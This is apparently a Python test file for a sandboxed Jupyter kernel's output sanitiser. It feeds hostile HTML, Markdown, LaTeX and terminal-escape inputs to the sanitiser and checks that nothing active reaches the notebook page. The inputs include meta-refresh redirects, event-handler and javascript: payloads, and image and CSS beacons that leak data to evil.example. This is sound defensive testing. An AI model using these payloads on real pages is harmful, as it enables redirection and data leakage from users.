"""What a sandbox's display data becomes (`runner/trusted/display.py`), checked as data: each
case is hostile input and what may cross into a notebook page."""

from __future__ import annotations

import html
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox_kernel_ext.runner.child.display import markdown_as_html
from sandbox_kernel_ext.runner.trusted.crossing_text import display_text, stream_text
from sandbox_kernel_ext.runner.trusted.display import (
    MARKDOWN_NOTE,
    NO_TYPESETTING,
    UNTRUSTED_NOTE,
    inert_html,
    isolated_html,
    safe_bundle,
)

# Markup a browser would act on by itself if it reached the frame's document.
ACTIVE = re.compile(r"<\s*(meta|base|link|script|iframe|frame|object|embed|template)\b|"
                    r"\son\w+\s*=|srcdoc", re.IGNORECASE)


@pytest.mark.parametrize("markup", [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META HTTP-EQUIV=refresh CONTENT="0;url=x">',
    '<svg><meta http-equiv="refresh" content="0;url=x"></svg>',
    '<style>p{}</style/x><meta http-equiv="refresh" content="0;url=x">',
    '<style>p{}</style ><meta http-equiv="refresh" content="0;url=x">',
    '<iframe srcdoc="<meta http-equiv=refresh content=0;url=x>"></iframe>',
    '<object data="x"></object><embed src="x"><base href="https://evil.example/">',
    '<img src=x onerror="parent.x=1"><a href="#" onclick="x()">a</a>',
    '<template><meta http-equiv="refresh"></template>',
    '<p a"b=1 c=2>t</p><x/y>z</x/y>',
])
def test_markup_that_acts_by_itself_does_not_survive(markup: str) -> None:
    assert not ACTIVE.search(inert_html(markup)), inert_html(markup)


def test_ordinary_html_survives_as_it_shows() -> None:
    table = ('<style>.c td{color:red}</style><table class="c" border="1"><tr><th>a</th>'
             '<td>1 &lt; 2 &amp; 3</td></tr></table><b>bold</b><br/>')
    out = inert_html(table)
    assert out == ('<style>.c td{color:red}</style><table class="c" border="1"><tr><th>a</th>'
                   '<td>1 &lt; 2 &amp; 3</td></tr></table><b>bold</b><br />')


def test_a_less_than_sign_in_css_cannot_end_the_style() -> None:
    assert inert_html('<style>a[x="<"]{}</style>') == '<style>a[x="\\3c "]{}</style>'


@pytest.mark.parametrize("markdown", [
    "[click](javascript:alert(1))",
    "[click]\x00(javascript:alert(1))",
    "> [x]: javascript:alert(1)\n\n[x]",
    "![beacon](https://evil.example/leak?d=secret)",
    "<img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=x>",
    "<a target=_self href=https://evil.example>x</a>",
    "$\\style{cursor:url(https://evil.example/leak)}{x}$",
    "```mermaid\ngraph TD\n  A --> B\n```",
])
def test_markdown_never_reaches_the_pages_renderer(markdown: str) -> None:
    """Markdown is made HTML inside the sandbox (`child/display.py`) and crosses isolated:
    JupyterLab's renderer (MathJax math, mermaid diagrams, raw HTML, links) never sees a
    sandbox's Markdown, and this side never renders it (no time bound): a bundle with
    Markdown and no HTML shows as text, with a line saying why."""
    data, _ = safe_bundle({"text/markdown": markdown, "text/plain": "p"}, {})
    assert data == {"text/plain": "p\n" + MARKDOWN_NOTE}
    data, _ = safe_bundle(markdown_as_html({"text/markdown": markdown, "text/plain": "p"}), {})
    assert "text/markdown" not in data and data["text/plain"] == "p"
    assert data["text/html"].startswith('<iframe id="sandbox-frame-')
    body = data["text/html"].split("&lt;body&gt;", 1)[1].split("&lt;/body&gt;", 1)[0]
    assert not re.search(r"(?:href|src)=&quot;\s*javascript:", body, re.IGNORECASE), body
    assert not re.search(r"target=&quot;(?!_blank&quot;)|&lt;meta|&lt;img[^&]*onerror|&lt;script",
                         body), body


def test_markdown_renders_as_html_in_its_frame() -> None:
    bundle = markdown_as_html({"text/markdown": "# Title\n\n**bold** and `code`\n\n|a|b|\n|-|-|\n|1|2|"})
    data, _ = safe_bundle(bundle, {})
    inner = data["text/html"]
    assert "&lt;h1&gt;Title&lt;/h1&gt;" in inner and "&lt;strong&gt;bold&lt;/strong&gt;" in inner
    assert "&lt;table&gt;" in inner


@pytest.mark.parametrize("latex", [r"$x^2$", r"\href{javascript:x}{y}", r"$\style{color:red}{x}$"])
def test_latex_is_shown_as_its_text(latex: str) -> None:
    """MathJax in the page would load URLs from styles and move text over the notebook."""
    data, _ = safe_bundle({"text/latex": latex, "text/plain": "t"}, {})
    assert data == {"text/plain": "t"}


def test_every_bundle_can_be_sent_as_a_kernel_message() -> None:
    """The kernel's message encoder refuses NaN and lone surrogates: a bundle that carried
    them would raise in the kernel, not in the sandbox."""
    hostile = {"text/plain": "a\ud800b", "application/json": {"x": float("nan")},
               "text/html": "<b>\udfff</b>", "text/markdown": "m\ud83d", "image/svg+xml": "\ud800"}
    data, metadata = safe_bundle(hostile, {"image/png": {"width": float("inf")}})
    json.dumps(data, allow_nan=False).encode("utf-8")
    json.dumps(metadata, allow_nan=False).encode("utf-8")
    assert "application/json" not in data and data["text/plain"] == "a\ufffdb"


def test_streams_keep_colours_and_lose_terminal_commands() -> None:
    text = "a\x1b[31mred\x1b[0m\x1b]52;c;c2VjcmV0\x07\x1b]0;title\x1b\\\r\x1b[2Jb\x07\x08c"
    assert stream_text(text) == "a\x1b[31mred\x1b[0m\rbc"
    assert display_text("\x1b[31mx\u202e") == "[31mx"


def test_every_link_opens_nothing_from_the_frame() -> None:
    """A link's own target (`_self`, `_top`) would navigate the frame past our `<base>`, and
    SVG's `<a>` ignores `<base>`: each is written with target _blank, which a frame without
    allow-popups cannot open."""
    out = inert_html('<svg><a href="https://x" target="_self"><rect/></a></svg>'
                     '<a href="y" target="_top">y</a><map><area href="z" target="_self"></map>'
                     '<form action="w" target="_self"><button formtarget="_top">b</button></form>')
    assert re.findall(r'target="([^"]*)"', out) == ["_blank"] * 4
    assert "formtarget" not in out


# -- the text form inside the frame, for pages that drop the frame (an untrusted notebook) ----

@settings(max_examples=300, deadline=None)
@given(text=st.text(alphabet=st.characters(codec="utf-8")), markup=st.text())
def test_the_text_form_inside_the_frame_is_only_text(text: str, markup: str) -> None:
    """Whatever the text, the frame element holds only our `<pre>` and note: a browser never
    shows it, and a sanitiser that drops the frame finds nothing but text in it."""
    out = isolated_html(markup, text=text)
    opening = out.index('">', out.index(' srcdoc="')) + 2
    inside = out[opening:out.index("</iframe>")]
    assert out.count("</iframe") == 1 and out.count("<script") == 1
    assert re.sub(r"</?(pre|p)>", "", inside).count("<") == 0, inside
    assert inside.endswith(f"<p>{html.escape(UNTRUSTED_NOTE, quote=False)}</p>")


@settings(max_examples=200, deadline=None)
@given(plain=st.text(), markup=st.text())
def test_every_frame_is_kept_from_the_pages_typesetting(plain: str, markup: str) -> None:
    """JupyterLab's MathJax typesets HTML outputs, and would read the text inside the frame
    element (TeX links, or work enough to hold the tab): the frame carries the class it
    skips, whatever the display."""
    data, _ = safe_bundle({"text/html": markup, "text/plain": plain}, {})
    frame = data.get("text/html", "")
    if "<iframe" in frame:
        assert re.match(rf'<iframe id="[^"]+" class="sandbox-output {NO_TYPESETTING}"', frame)
        assert frame.count("<iframe") == 1


def test_a_tables_text_form_is_its_text_repr_and_html_falls_back_to_its_text() -> None:
    table = "   city  rain\n0  Oslo   763"
    data, _ = safe_bundle({"text/html": "<table><tr><td>Oslo</td></tr></table>",
                           "text/plain": table}, {})
    assert f"<pre>{html.escape(table, quote=False)}</pre>" in data["text/html"]
    data, _ = safe_bundle({"text/html": "<h1>Rain</h1><p>in <b>Oslo</b></p><script>x()</script>"
                                        "<table><tr><td>a</td><td>b</td></tr></table>",
                           "text/plain": "<IPython.core.display.HTML object>"}, {})
    assert "<pre>Rain\nin Oslo\n  a  b</pre>" in data["text/html"]
